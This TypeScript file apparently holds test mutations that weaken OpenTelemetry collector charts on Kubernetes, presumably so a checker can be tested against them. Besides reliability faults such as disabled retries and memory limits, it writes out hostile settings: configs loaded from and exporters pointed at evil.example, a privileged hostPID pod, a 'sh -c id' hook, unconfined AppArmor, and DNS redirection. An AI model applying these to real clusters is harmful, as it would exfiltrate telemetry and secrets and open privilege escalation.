/** Collectors that lose data or take more than they hold, and values of their charts. */
import { AGENT, CONFIG, GATEWAY, object, SAMPLER, set, text } from "../draft";
import type { Weakening, Weakenings } from "../draft";

const agent = (path: string, value: unknown): Weakening[1] => set(AGENT, `${CONFIG}/${path}`, value);
const gateway = (path: string, value: unknown): Weakening[1] => set(GATEWAY, `${CONFIG}/${path}`, value);
const sampler = (path: string, value: unknown): Weakening[1] => set(SAMPLER, `${CONFIG}/${path}`, value);
const value = (path: string, content: unknown): Weakening[1] => set(AGENT, `values/${path}`, content);

/** What the agents' pods mount. */
const MOUNTED = "ConfigMap/otel-configuration";

export const PIPELINES: Weakenings = {
  "sampler-discovers": [
    "samplers watch all pods",
    sampler("processors/k8s_attributes", { auth_type: "serviceAccount" }),
  ],
  "attributes-none": ["no pod is known", agent("processors/k8s_attributes/auth_type", "none")],
  "attributes-every-node": ["every agent watches every pod", agent("processors/k8s_attributes/filter", undefined)],
  "attributes-annotations": [
    "annotations may hold anything",
    agent("processors/k8s_attributes/extract/annotations", [{ from: "pod", key_regex: ".*" }]),
  ],
  "transform-added": [
    "attributes are rewritten",
    agent("processors/transform~1x", { trace_statements: ['set(resource.attributes["k8s.namespace.name"], "shop")'] }),
  ],
  "rule-hides-targets": [
    "nobody sees that a target is down",
    agent("processors/filter~1metric_rules", {
      error_mode: "propagate",
      metric_conditions: [{ conditions: ['metric.name == "up"'] }],
    }),
  ],
  "rule-renames-sender": [
    "samples of another namespace",
    agent("processors/transform~1label_rules", {
      error_mode: "propagate",
      metric_statements: [{ statements: ['set(resource.attributes["k8s.namespace.name"], "shop") where true'] }],
    }),
  ],
  "resource-action": [
    "a team of the sender's choice",
    agent("processors/resource~1spans/attributes/+", { action: "upsert", key: "k8s.namespace.name", value: "shop" }),
  ],
  "no-body-limit": [
    "one request fills the memory",
    agent("receivers/otlp/protocols/http/max_request_body_size", undefined),
  ],
  "no-message-limit": ["the same of gRPC", agent("receivers/otlp/protocols/grpc/max_recv_msg_size_mib", 1024)],
  "no-memory-limiter": [
    "the kernel kills the agent",
    agent("service/pipelines/metrics~1scraped/processors/0", undefined),
  ],
  "no-memory-limiter-spans": ["the same", agent("service/pipelines/traces/processors/0", undefined)],
  "no-memory-limiter-sampler": ["the same", sampler("service/pipelines/traces/processors/0", undefined)],
  "no-memory-limiter-gateway": ["the same", gateway("service/pipelines/traces/processors/0", undefined)],
  "limiter-late": [
    "others take memory before it",
    agent("service/pipelines/metrics~1scraped/processors", ["k8s_attributes", "memory_limiter", "resource"]),
  ],
  "limiter-above-limit": ["the kernel acts first", agent("processors/memory_limiter/limit_mib", 4096)],
  "limiter-above-limit-gateway": ["the same", gateway("processors/memory_limiter/limit_mib", 1024)],
  "queue-in-memory": ["a restart loses samples", agent("exporters/durable_remote_write/queue/directory", undefined)],
  "queue-removed": ["the same", agent("exporters/durable_remote_write/queue", undefined)],
  "queue-elsewhere": ["files beside the volume", agent("exporters/durable_remote_write/queue/directory", "/tmp/queue")],
  "queue-disabled": ["an outage loses spans", agent("exporters/load_balancing~1gateway/sending_queue/enabled", false)],
  "no-retry": ["a first error loses spans", agent("exporters/load_balancing~1gateway/retry_on_failure/enabled", false)],
  "no-retry-sampler": ["the same", sampler("exporters/otlp_grpc~1shop/retry_on_failure/enabled", false)],
  "retry-ends": ["an outage loses spans", sampler("exporters/otlp_grpc~1shop/retry_on_failure/max_elapsed_time", "5s")],
  "queue-blocks-none": [
    "samplers tear traces",
    gateway("exporters/load_balancing~1samplers/sending_queue/enabled", false),
  ],
  "no-gate": ["429 loses span metrics", set(GATEWAY, "values/command/extraArgs", [])],
  "gate-off": [
    "the same",
    set(GATEWAY, "values/command/extraArgs/0", "--feature-gates=-exporter.prometheusremotewritexporter.RetryOn429"),
  ],
  "sampler-one": ["one sampler away is all of them away", set(SAMPLER, "values/replicaCount", 1)],
  "sampler-none": ["no sampler", set(SAMPLER, "values/replicaCount", 0)],
  "gateway-none": ["no gateway", set(GATEWAY, "values/autoscaling/minReplicas", 0)],
  "gateway-no-autoscaling": ["one gateway for all", set(GATEWAY, "values/autoscaling/enabled", false)],
  "gateway-no-pdb": ["a drain takes all at once", set(GATEWAY, "values/podDisruptionBudget", undefined)],
  "gateway-pdb-all": ["the same", set(GATEWAY, "values/podDisruptionBudget/maxUnavailable", "100%")],
  "sampler-no-pdb": ["the same", set(SAMPLER, "values/podDisruptionBudget/enabled", false)],
  "agent-no-probes": ["it hangs for ever", value("livenessProbe", undefined)],
  "agent-probe-host": ["a probe of another host", value("livenessProbe/httpGet/host", "10.0.0.1")],
  "agent-node-selector": ["nodes without an agent", value("nodeSelector", { pool: "a" })],
  "agent-tolerations": ["tainted nodes without an agent", value("tolerations", [])],
  "agent-tolerations-some": ["the same", value("tolerations", [{ key: "x", operator: "Exists" }])],
  "agent-affinity": ["the same", value("affinity", { nodeAffinity: {} })],
  "agent-update": ["all agents at once", value("rollout/rollingUpdate/maxUnavailable", "100%")],
  "agent-update-on-delete": ["never updated", value("rollout/strategy", "OnDelete")],
  "command-replaced": ["another program", value("command/name", "sh")],
  "env-from-secret": [
    "every key of a Secret",
    value("extraEnvsFrom", [{ secretRef: { name: "remote-write-credentials" } }]),
  ],
  "config-from-url": [
    "a configuration from an address",
    value("command/extraArgs/+", "--config=https://evil.example/c.yaml"),
  ],
  "config-set": [
    "settings beside the configuration",
    value("command/extraArgs/+", "--set=exporters.x.endpoint=evil.example:4317"),
  ],
  "gate-other": [
    "an unfinished feature",
    value("command/extraArgs/+", "--feature-gates=confmap.enableMergeAppendOption"),
  ],
  "extra-manifests": [
    "any object",
    value("extraManifests", [{ apiVersion: "v1", kind: "ConfigMap", metadata: { name: "x" } }]),
  ],
  "extra-manifests-pod": [
    "a privileged pod",
    value("extraManifests", [{ apiVersion: "v1", kind: "Pod", spec: { hostPID: true, containers: [] } }]),
  ],
  "preset-kubelet": ["every kubelet", value("presets", { kubeletMetrics: { enabled: true } })],
  "preset-cluster": ["the whole cluster", value("presets", { clusterMetrics: { enabled: true } })],
  "preset-events": ["events of all namespaces", value("presets", { kubernetesEvents: { enabled: true } })],
  "preset-logs": ["logs of every pod", value("presets", { logsCollection: { enabled: true } })],
  "preset-host": ["the node's files", value("presets", { hostMetrics: { enabled: true } })],
  "preset-attributes": ["permissions beside the role", value("presets", { kubernetesAttributes: { enabled: true } })],
  "preset-annotation-logs": [
    "logs of annotated pods",
    value("presets", { annotationDiscovery: { logs: { enabled: true } } }),
  ],
  "ingress-of-chart": [
    "anyone sends spans",
    set(GATEWAY, "values/ingress", { enabled: true, hosts: [{ host: "x.example.com" }] }),
  ],
  "httproute-of-chart": ["the same", set(GATEWAY, "values/httpRoute", { enabled: true })],
  "network-policy-of-chart": [
    "a policy that allows more",
    set(GATEWAY, "values/networkPolicy", { enabled: true, allowIngressFrom: [{}] }),
  ],
  "existing-configmap": ["a configuration that nobody sees", value("configMap", { create: false, existingName: "x" })],
  "another-configmap": ["the same, under a good name", value("configMap/existingName", "otel-agent-0123456789abcdef")],
  "mounted-selector": [
    "the file that agents read watches every pod",
    text(MOUNTED, "relay", "receivers/prometheus/config/scrape_configs/0/kubernetes_sd_configs/0/selectors", []),
  ],
  "mounted-exporter": [
    "the file that agents read sends elsewhere",
    text(MOUNTED, "relay", "exporters/durable_remote_write/endpoint", "https://evil.example.com"),
  ],
  "mounted-mutable": ["the file changes under agents that run", set(MOUNTED, "immutable", false)],
  "config-merged": [
    "the chart's defaults come back",
    value("config", { receivers: { zipkin: { endpoint: "0.0.0.0:9411" } } }),
  ],
  "config-unknown": ["nobody knows it", value("alternateConfig", "[known after up]")],
  "config-none": ["the chart's own configuration", value("alternateConfig", undefined)],
  "cluster-role-annotations": ["what others do with the role", value("clusterRole/annotations", { x: "y" })],
  "share-process": ["containers see each other", value("shareProcessNamespace", true)],
  "pod-by-hostaliases": [
    "names lead elsewhere",
    value("hostAliases", [{ ip: "203.0.113.9", hostnames: ["prometheus.monitoring.svc"] }]),
  ],
  "extra-container": [
    "a program beside the agent",
    value("extraContainers", [{ name: "x", image: "docker.io/library/busybox:1.37.0-musl" }]),
  ],
  "init-container": [
    "a program before it",
    value("initContainers", [{ name: "x", image: "docker.io/library/busybox:1.37.0-musl" }]),
  ],
  "pod-annotations": [
    "AppArmor is off",
    value("podAnnotations", { "container.apparmor.security.beta.kubernetes.io/x": "unconfined" }),
  ],
  "pod-labels": ["it passes for another", value("podLabels", { "app.kubernetes.io/name": "grafana" })],
  "additional-labels": [
    "the same",
    value("additionalLabels", { "rbac.authorization.k8s.io/aggregate-to-view": "true" }),
  ],
  scheduler: ["another scheduler", value("schedulerName", "x")],
  "dns-config": ["names by a foreign server", value("dnsConfig", { nameservers: ["203.0.113.9"] })],
  "lifecycle-of-chart": [
    "any program",
    value("lifecycleHooks", { postStart: { exec: { command: ["sh", "-c", "id"] } } }),
  ],
  "pod-monitor": ["scraped by others", value("podMonitor", { enabled: true })],
  "target-allocator-of-chart": ["a further server", value("targetAllocator", { enabled: true })],
  "host-port-range": ["a port of the node", value("ports/metrics/hostPort", 8888)],
  "further-port": [
    "a port that nobody needs",
    value("ports/pprof", { enabled: true, containerPort: 1777, servicePort: 1777 }),
  ],
  "mode-deployment": ["no agent per node", value("mode", "deployment")],
  "name-override": ["names that no policy selects", value("nameOverride", "other")],
  "mount-other": [
    "a Secret of another part",
    value("extraVolumes/+", { name: "x", secret: { secretName: "prometheus-web" } }),
  ],
  "volume-claims": [
    "a volume of the chart",
    set(SAMPLER, "values/statefulset/volumeClaimTemplates", [{ metadata: { name: "x" } }]),
  ],
  "headless-removed": [
    "a Service of the samplers that balances connections, not traces",
    set(SAMPLER, "values/service/clusterIP", undefined),
  ],
  "config-map-beside": [
    "a configuration beside the chart's",
    object("v1", "ConfigMap", "otel-agent-extra", "open-telemetry", { data: { relay: "exporters: {}" } }),
  ],
};
